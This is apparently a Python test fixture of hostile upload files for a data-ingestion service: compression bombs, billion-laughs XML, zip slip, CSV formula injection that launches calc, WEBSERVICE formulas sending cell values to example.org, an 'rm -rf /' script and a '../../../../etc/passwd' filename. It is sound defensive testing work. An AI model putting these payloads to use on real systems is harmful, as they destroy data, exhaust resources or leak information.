"""Files that nobody should be hurt by, each made by code: what it is called, what it holds, how it is answered."""

from __future__ import annotations

import gzip
import io
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
import zstandard

from tests.datasets.csv_files import daily
from tests.datasets.hostile import archives, parquet_files

CSV = daily().encode()
RECORDS = [
    {"unique_id": "a", "ds": f"2024-01-{day:02d}", "y": day * 1.5, "price": day / 4} for day in range(1, 31)
]
MEGABYTE = 1 << 20


@dataclass(frozen=True, slots=True)
class Hostile:
    """``filename`` as its sender calls it; ``fill`` writes the file; ``code`` of its refusal, None where it is read."""

    name: str
    filename: str
    fill: Callable[[Path], object]
    code: str | None


def of(data: bytes | Callable[[], bytes]) -> Callable[[Path], object]:
    """A filler that writes ``data``, made only when the file is."""
    return lambda path: path.write_bytes(data() if callable(data) else data)


def parquet() -> bytes:
    """An honest table."""
    out = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(RECORDS * 40), out)
    return out.getvalue()


def nested_parquet() -> bytes:
    """A column of lists of structs of lists."""
    out = io.BytesIO()
    rows = [{**record, "tags": [{"a": [1, 2]}, {"a": [3]}]} for record in RECORDS]
    pq.write_table(pa.Table.from_pylist(rows), out)
    return out.getvalue()


def packed_page_bomb() -> bytes:
    """A modest footer over a page of zeros that zstd packed twenty thousandfold."""
    body = zstandard.compress(bytes(1 << 30))
    return parquet_files.packed_page(body, 1 << 30)


def lines_without_end(path: Path, megabytes: int) -> None:
    """A header and one line."""
    with path.open("wb") as file:
        file.write(b"unique_id,ds,y\na,2024-01-01,")
        for _ in range(megabytes):
            file.write(b"9" * MEGABYTE)


def formulas() -> bytes:
    """A workbook whose cells would call out if they were computed; each kept a value."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("data")
        sheet.write_row(0, 0, ["unique_id", "ds", "y"])
        for row, record in enumerate(RECORDS, start=1):
            sheet.write_formula(row, 0, '=HYPERLINK("http://example.org/"&A2,"a")', None, "a")
            sheet.write(row, 1, record["ds"])
            sheet.write_formula(row, 2, '=WEBSERVICE("http://example.org/"&B2)', None, row * 1.5)
    return out.getvalue()


def noise() -> bytes:
    """Bytes without meaning."""
    return random.Random(7).randbytes(5 * MEGABYTE)


def million_keys() -> bytes:
    """One record of a million members."""
    return b"[{" + b",".join(b'"k%d":1' % number for number in range(10**6)) + b"}]"


def million_columns() -> bytes:
    """A header of a million names, and a row."""
    return b",".join(b"c%d" % number for number in range(10**6)) + b"\n" + b"1," * 999_999 + b"1\n"


CSV_WITH_FORMULAS = CSV.replace(b"a,", b"=cmd|' /C calc'!A0,").replace(b"b,", b"@SUM(1+1),")
JSON = json.dumps(RECORDS).encode()
NDJSON = "\n".join(json.dumps(record) for record in RECORDS).encode()
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + noise()[:4_000]

CASES = (
    Hostile("parquet that asks for 4 GB", "sales.parquet", of(parquet_files.four_gigabytes), "bomb"),
    Hostile("parquet page that claims 2 GB", "sales.parquet", of(parquet_files.lying_page), "bomb"),
    Hostile("parquet page that unpacks to 1 GB", "sales.parquet", of(packed_page_bomb), "bomb"),
    Hostile("parquet of 10^12 rows", "sales.parquet", of(parquet_files.absurd_rows), "bomb"),
    Hostile("parquet that repeats 90 kB 10^8 times", "sales.parquet", of(lambda: parquet_files.forty_two(10**8, 90_000)), "bomb"),
    Hostile("parquet that repeats 90 kB 10^6 times", "sales.parquet", of(lambda: parquet_files.forty_two(10**6, 90_000)), "bomb"),
    Hostile("parquet of 300,000 columns", "sales.parquet", of(lambda: parquet_files.columns_without_end(300_000)), "too_many_columns"),
    Hostile("parquet footer without end", "sales.parquet", of(parquet_files.list_without_end), "too_many_columns"),
    Hostile("nested parquet", "sales.parquet", of(nested_parquet), "nested_column"),
    Hostile("truncated parquet", "sales.parquet", of(lambda: parquet()[:-9]), "truncated"),
    Hostile("gzip bomb of 10 GB", "sales.csv.gz", of(archives.gzip_bomb), "bomb"),
    Hostile("zstd bomb of 100 GB", "sales.csv.zst", of(archives.zstd_bomb), "bomb"),
    Hostile("gzip within gzip", "sales.csv.gz", of(lambda: gzip.compress(archives.gzip_bomb())), "nested_archive"),
    Hostile("truncated gzip", "sales.csv.gz", of(lambda: gzip.compress(CSV)[:-20]), "truncated"),
    Hostile("truncated zstd", "sales.csv.zst", of(lambda: zstandard.compress(CSV)[:-5]), "truncated"),
    Hostile("xlsx bomb", "sales.xlsx", of(archives.workbook_bomb), "bomb"),
    Hostile("xlsx that lies about its size", "sales.xlsx", of(archives.workbook_that_lies), "bomb"),
    Hostile("xlsx of overlapping members", "sales.xlsx", of(archives.workbook_of_overlaps), "bomb"),
    Hostile("xlsx of 5,000 members", "sales.xlsx", of(archives.workbook_of_many_members), "bomb"),
    Hostile("xlsx that leads out of its folder", "sales.xlsx", of(archives.workbook_with_slip), "unsafe_names"),
    Hostile("xlsx with a million laughs", "sales.xlsx", of(archives.workbook_with_laughs), "xml_entities"),
    Hostile("xlsx with a cell at the far corner", "sales.xlsx", of(archives.workbook_with_a_far_cell), "too_many_columns"),
    Hostile("xlsx with a password", "sales.xlsx", of(archives.workbook_with_password), "encrypted"),
    Hostile("xlsx in an encrypted zip", "sales.xlsx", of(archives.zip_with_password), "encrypted"),
    Hostile("truncated xlsx", "sales.xlsx", of(lambda: archives.workbook()[:-40]), "truncated"),
    Hostile("ods that repeats a cell 10^10 times", "sales.ods", of(archives.sheet_of_repeats), "bomb"),
    Hostile("xlsx with formulas that call out", "sales.xlsx", of(formulas), None),
    Hostile("zip archive", "sales.zip", of(lambda: archives.zip_of("sales.csv", CSV)), "not_a_table"),
    Hostile("csv of 10^6 columns", "sales.csv", of(million_columns), "line_too_long"),
    Hostile("csv with a quote that never closes", "sales.csv", of(b'unique_id,ds,y\na,2024-01-01,"' + b"1\n" * 10**6), "broken_quotes"),
    Hostile("csv with formulas", "sales.csv", of(CSV_WITH_FORMULAS), None),
    Hostile("json of 10^6 levels", "sales.json", of(b"[" * 10**6), "too_deep"),
    Hostile("json of 10^6 objects in each other", "sales.json", of(b'{"a":' * 10**6), "too_deep"),
    Hostile("json of 10^6 keys", "sales.json", of(million_keys), "record_too_long"),
    Hostile("truncated json", "sales.json", of(JSON[:-20]), "truncated"),
    Hostile("truncated ndjson", "sales.ndjson", of(NDJSON[:-20]), "not_json"),
    Hostile("ndjson of one line of 30 MB", "sales.ndjson", of(b'{"a":1}\n{"a":"' + b"x" * (30 * MEGABYTE)), "line_too_long"),
    Hostile("program of Linux", "sales.csv", of(ELF), "not_a_table"),
    Hostile("program of Windows", "sales.xlsx", of(b"MZ" + noise()[:4_000]), "not_a_table"),
    Hostile("script", "sales.csv", of(b"#!/bin/sh\nrm -rf / --no-preserve-root\n"), "not_a_table"),
    Hostile("nothing", "sales.csv", of(b""), "empty_file"),
    Hostile("only a mark of byte order", "sales.csv", of(b"\xef\xbb\xbf"), "empty_file"),
    Hostile("noise", "sales.csv", of(noise), "binary"),
    Hostile("parquet called csv", "sales.csv", of(parquet), None),
    Hostile("csv called xlsx", "sales.xlsx", of(CSV), None),
    Hostile("json called txt", "sales.txt", of(JSON), None),
    Hostile("xlsx called parquet", "sales.parquet", of(archives.workbook), None),
    Hostile("gzip called csv", "sales.csv", of(lambda: gzip.compress(CSV)), None),
    Hostile("name that leads out", "../../../../etc/passwd", of(CSV), None),
    Hostile("name with a NUL", "sales\x00.csv", of(CSV), None),
    Hostile("name of 300 characters", "s" * 300 + ".csv", of(CSV), None),
)  # fmt: skip
